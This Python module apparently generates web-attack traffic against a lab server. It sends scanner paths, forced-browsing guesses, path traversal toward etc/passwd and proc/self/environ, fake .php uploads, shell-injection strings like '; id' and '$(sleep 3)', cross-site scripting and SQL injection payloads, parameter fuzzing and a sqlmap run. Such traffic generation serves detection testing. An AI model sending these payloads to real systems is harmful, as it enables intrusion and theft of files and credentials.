"""Attacks on web pages by the shape of their requests; the lab's server runs none of what they ask for."""

from __future__ import annotations

import contextlib
import http.client
import ssl
from typing import TYPE_CHECKING
from urllib.parse import quote, urlencode

from .bounds import addresses, spread, tool
from .plan import TLS_PORTS

if TYPE_CHECKING:
    from collections.abc import Iterable

    from .context import Context

Request = tuple[str, str, bytes | None, dict[str, str]]  # method, path, body, further headers
_PATHS = """/admin.php /administrator/ /backup.zip /backup.sql /cgi-bin/test.cgi /cgi-bin/status /config.php.bak
 /console/ /crossdomain.xml /db.sqlite /debug /.env /.git/HEAD /.git/config /.htaccess /.svn/entries /info.php
 /install/ /jmx-console/ /login.jsp /manager/html /old/ /phpinfo.php /phpmyadmin/ /readme.txt /robots.txt
 /server-info /server-status /setup.php /shell.php /sitemap.xml /test.php /tmp/ /trace.axd /upload.php /web.config
 /wp-admin/ /wp-login.php /xmlrpc.php /actuator/health /api/swagger.json /axis2/ /solr/ /struts/ /vendor/""".split()
_STEMS = """admin app archive assets auth backup beta bin board cache ci config dashboard data db dev docs download
 error export files forms fonts help hidden home images import inc internal js lab lib log mail media monitor new old
 orders pacs patients photos private public reports scan search secret service site static stats storage temp test
 tools training update upload user users v1 v2 viewer web work xray""".split()
_ENDS = ("", "/", ".php", ".bak", ".asp", ".html", ".old", ".txt", ".zip", ".jsp", "~", "/index.php")
_AGENTS = {"scanner": "Mozilla/5.00 (Nikto-like)", "python": "python-requests/2.31.0", "curl": "curl/7.88.1",
           "browser": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
           "go": "Go-http-client/1.1"}  # fmt: skip
_COMMANDS = ("; id", "| uname -a", "&& cat /etc/hostname", "`whoami`", "$(sleep 3)", "|| ls -la /", "%0aid",
             "; ping -c 3 ", "& dir", "'; sleep 5 #")  # fmt: skip
_SCRIPTS = ("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=confirm(2)>",
            "javascript:alert(1)", "'><body onpageshow=alert(3)>", "<iframe src=//192.0.2.9/>",
            "{{7*7}}", "${{<%[%'\"}}%\\.")  # fmt: skip
_CLIMB = ("../", "..%2f", "%2e%2e/", "..%252f", "....//", "..\\", "..%5c", "%2e%2e%2f")
_AIMS = (
    "etc/passwd",
    "etc/hosts",
    "windows/win.ini",
    "proc/self/environ",
    "var/log/syslog",
    "WEB-INF/web.xml",
    "boot.ini",
)
_QUOTES = ("'", "1 OR 1=1", "1' AND '1'='1", "1 UNION SELECT NULL,NULL--", "1;SELECT 1", "1 ORDER BY 9", "%27%20--",
           "1 AND SLEEP(2)", "')) OR (('1'='1")  # fmt: skip


def _send(
    ctx: Context,
    targets: list[str],
    requests: Iterable[Request],
    port: int,
    rate: float,
    threads: int,
    per_connection: int,
    agent: str,
    seconds: float,
) -> None:
    """Send the requests to every target, some on each connection (TLS on 443); a reset ends only that connection."""
    quiet = ssl._create_unverified_context()

    def some(address: str, batch: list[Request]) -> None:
        made = (http.client.HTTPSConnection(address, port, timeout=6, context=quiet) if port in TLS_PORTS
                else http.client.HTTPConnection(address, port, timeout=6))  # fmt: skip
        with contextlib.closing(made), contextlib.suppress(http.client.HTTPException):
            for method, path, body, headers in batch:
                made.request(method, path, body, {"User-Agent": _AGENTS[agent], **headers})
                made.getresponse().read()

    waiting = list(requests)
    batches = [waiting[n : n + per_connection] for n in range(0, len(waiting), per_connection)]
    jobs = (lambda a=a, b=b: some(a, b) for b in batches for a in addresses(targets))
    spread(ctx, jobs, rate, threads, seconds)


def scan_pages(
    ctx: Context, targets: list[str], port: int = 80, count: int = 600, rate: float = 10, threads: int = 1,
    per_connection: int = 5, agent: str = "scanner", probes: float = 0.3, seconds: float = 90,
) -> None:  # fmt: skip
    """As server scanners do: well-known paths, odd methods and, in a share `probes`, parameters that test."""

    def one(number: int) -> Request:
        path = (
            _PATHS[number % len(_PATHS)]
            if number < len(_PATHS)
            else f"/{ctx.rng.choice(_STEMS)}{ctx.rng.choice(_ENDS)}"
        )
        method = ctx.rng.choices(["GET", "HEAD", "OPTIONS", "TRACE", "PUT"], [80, 10, 4, 3, 3])[0]
        if ctx.rng.random() < probes:
            path += "?" + urlencode({"id": ctx.rng.choice(_QUOTES + _SCRIPTS)})
        return method, path, None, {}

    _send(ctx, targets, (one(n) for n in range(count)), port, rate, threads, per_connection, agent, seconds)


def force_browse(
    ctx: Context, targets: list[str], port: int = 80, count: int = 800, rate: float = 30, threads: int = 4,
    per_connection: int = 1, agent: str = "go", method: str = "GET", under: str = "/", seconds: float = 90,
) -> None:  # fmt: skip
    """Guess folders and files from a list of words and endings."""
    found = [f"{under}{stem}{n or ''}{end}" for n in range(6) for stem in _STEMS for end in _ENDS]
    ctx.rng.shuffle(found)
    _send(ctx, targets, ((method, p, None, {}) for p in found[:count]), port, rate, threads, per_connection, agent,
          seconds)  # fmt: skip


def climb_paths(
    ctx: Context, targets: list[str], port: int = 80, count: int = 250, rate: float = 5, threads: int = 1,
    per_connection: int = 1, agent: str = "curl", seconds: float = 90,
) -> None:  # fmt: skip
    """Path traversal: `../` in its spellings, in the path or in a parameter."""

    def one() -> Request:
        path = ctx.rng.choice(_CLIMB) * ctx.rng.randint(2, 9) + ctx.rng.choice(_AIMS)
        front = ctx.rng.choice(["/static/", "/app/file?name=", "/api/report?page=", "/cgi-bin/", "/search?q="])
        return "GET", (front + path).replace("\\", "%5c"), None, {}

    _send(ctx, targets, (one() for _ in range(count)), port, rate, threads, per_connection, agent, seconds)


def send_files(
    ctx: Context, targets: list[str], port: int = 80, count: int = 120, rate: float = 2, threads: int = 1,
    size: int = 3000, ask_back: float = 0.5, agent: str = "python", seconds: float = 90,
) -> None:  # fmt: skip
    """Upload harmless random bytes under names with a server's endings, then ask for some of them."""

    def pair() -> list[Request]:
        name = f"{ctx.rng.choice(_STEMS)}{ctx.rng.randrange(999)}"
        name += ctx.rng.choice([".php", ".jsp", ".php.jpg", ".aspx", ".svg"])
        edge = f"----{ctx.rng.randrange(16**12):x}"
        head = f'--{edge}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n\r\n'
        body = head.encode() + ctx.rng.randbytes(ctx.rng.randint(40, size)) + f"\r\n--{edge}--\r\n".encode()
        sent: list[Request] = [("POST", "/upload", body, {"Content-Type": f"multipart/form-data; boundary={edge}"})]
        return sent + [("GET", f"/upload/{name}", None, {})] * (ctx.rng.random() < ask_back)

    requests = [r for _ in range(count) for r in pair()]
    _send(ctx, targets, requests, port, rate, threads, 1, agent, seconds)


def inject_commands(
    ctx: Context, targets: list[str], port: int = 80, count: int = 200, rate: float = 4, threads: int = 1,
    per_connection: int = 1, agent: str = "python", seconds: float = 90,
) -> None:  # fmt: skip
    """A form's fields with a shell's punctuation in them; the form only looks at it."""

    def one() -> Request:
        value = f"10.0.0.{ctx.rng.randrange(255)}{ctx.rng.choice(_COMMANDS)}"
        fields = urlencode({ctx.rng.choice(["host", "name", "device"]): value, "go": "1"})
        return "POST", "/form", fields.encode(), {"Content-Type": "application/x-www-form-urlencoded"}

    _send(ctx, targets, (one() for _ in range(count)), port, rate, threads, per_connection, agent, seconds)


def inject_scripts(
    ctx: Context, targets: list[str], port: int = 80, count: int = 200, rate: float = 4, threads: int = 1,
    per_connection: int = 1, agent: str = "browser", seconds: float = 90,
) -> None:  # fmt: skip
    """Markup in parameters and headers, as tests for cross-site scripting send it."""

    def one() -> Request:
        value = quote(ctx.rng.choice(_SCRIPTS) * ctx.rng.randint(1, 3))
        headers = {"Referer": f"http://x/?{value}"} if ctx.rng.random() < 0.3 else {}
        return "GET", f"/search?{ctx.rng.choice(['q', 'term', 'lang', 'next'])}={value}", None, headers

    _send(ctx, targets, (one() for _ in range(count)), port, rate, threads, per_connection, agent, seconds)


def fuzz_parameters(
    ctx: Context, targets: list[str], port: int = 80, count: int = 600, rate: float = 20, threads: int = 4,
    per_connection: int = 1, longest: int = 2000, method: str = "GET", agent: str = "go", seconds: float = 90,
) -> None:  # fmt: skip
    """Parameters of every name, type and length, to see which the server minds."""

    def one() -> Request:
        value = ctx.rng.choice([
            "A" * ctx.rng.randint(1, longest), str(ctx.rng.randrange(-(2**63), 2**63)), "%00", "%n%n%s", "[]", "null",
            ctx.rng.choice(_QUOTES), "\u00e9\u4e2d" * ctx.rng.randint(1, 40),
        ])  # fmt: skip
        sent = urlencode({f"{ctx.rng.choice(_STEMS)}": value, "id": ctx.rng.randrange(999)})
        front = ctx.rng.choice(["/search", "/form", "/app/list", "/api/find"])
        if method == "GET":
            return "GET", f"{front}?{sent}", None, {}
        return method, front, sent.encode(), {"Content-Type": "application/x-www-form-urlencoded"}

    _send(ctx, targets, (one() for _ in range(count)), port, rate, threads, per_connection, agent, seconds)


def inject_sql(
    ctx: Context, targets: list[str], flags: str = "--level 1", path: str = "/app/list?id=1", port: int = 80,
    seconds: float = 90,
) -> None:  # fmt: skip
    """sqlmap with these flags against a page with a parameter."""
    scheme = "https" if port in TLS_PORTS else "http"
    for target in targets:
        tool(ctx, ["sqlmap", "-u", f"{scheme}://{target}:{port}{path}", "--batch", "--flush-session",
                   "--disable-coloring", "--output-dir", str(ctx.work / f"sqlmap.{ctx.host.name}"), *flags.split()],
             seconds / len(targets))  # fmt: skip
